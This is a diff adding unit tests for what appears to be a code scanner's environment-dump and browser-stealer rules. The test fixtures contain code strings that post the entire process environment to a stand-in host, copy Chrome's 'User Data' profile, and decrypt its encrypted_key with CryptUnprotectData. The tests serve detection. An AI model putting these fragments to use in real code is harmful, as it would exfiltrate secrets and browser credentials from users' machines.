@@ -177,3 +177,50 @@ def test_finding_the_browser_program_is_no_profile_access() -> None:
     assert "PV-SEC-STEALER" in ids(run(R, profile))
     brave = py("import os\nP = os.path.join(os.getenv('LOCALAPPDATA'), 'BraveSoftware', 'Brave-Browser')\n")
     assert "PV-SEC-STEALER" in ids(run(R, brave))
+
+
+def test_a_wsgi_environ_is_not_the_process_environment() -> None:
+    wsgi = (
+        "import http.client, json\n"
+        "def forward(environ, start_response):\n"
+        "    body = environ['wsgi.input'].read(int(environ.get('CONTENT_LENGTH', '0')))\n"
+        "    log = json.dumps(environ)\n"
+        "    conn = http.client.HTTPConnection(environ['SERVER_NAME'])\n"
+    )
+    assert run(R, py(wsgi, stage=Stage.RUNTIME)) == []
+    process = "from os import environ\n" + wsgi
+    assert "PV-SEC-ENVDUMP" in ids(run(R, py(process, stage=Stage.RUNTIME)))
+
+
+def test_one_variable_of_the_environment_is_not_a_dump() -> None:
+    one = py("import os, requests\nrequests.post('https://x.example/', data=os.environ['PAYLOAD'])\n")
+    assert run(R, one) == []
+    picked = py("import os, requests\nrequests.post('https://x.example/', data=os.environ.get('P'))\n")
+    assert run(R, picked) == []
+    whole = py("import os, requests\nrequests.post('https://x.example/', data=os.environ)\n")
+    assert "PV-SEC-ENVDUMP" in ids(run(R, whole))
+
+
+def test_a_browser_profile_named_without_decrypting_it_is_medium() -> None:
+    automation = (
+        "import os, shutil\n"
+        "def copy_profile(dst):\n"
+        "    src = os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data')\n"
+        "    shutil.copy(os.path.join(src, 'Local State'), dst)\n"
+    )
+    found = [f for f in run(R, py(automation, stage=Stage.RUNTIME)) if f.rule == "PV-SEC-STEALER"]
+    assert [f.severity for f in found] == [Severity.MEDIUM]
+    stealer = automation + (
+        "def key(dst):\n"
+        "    import json, win32crypt\n"
+        "    blob = json.load(open(dst))['os_crypt']['encrypted_key']\n"
+        "    return win32crypt.CryptUnprotectData(blob)\n"
+    )
+    found = [f for f in run(R, py(stealer, stage=Stage.RUNTIME)) if f.rule == "PV-SEC-STEALER"]
+    assert [f.severity for f in found] == [Severity.HIGH]
+    on_import = (
+        "import os, shutil\n"
+        "shutil.copy(os.path.expandvars(r'%LocalAppData%\\Google\\Chrome\\User Data'), '.')\n"
+    )
+    found = [f for f in run(R, py(on_import)) if f.rule == "PV-SEC-STEALER"]
+    assert [f.severity for f in found] == [Severity.HIGH]
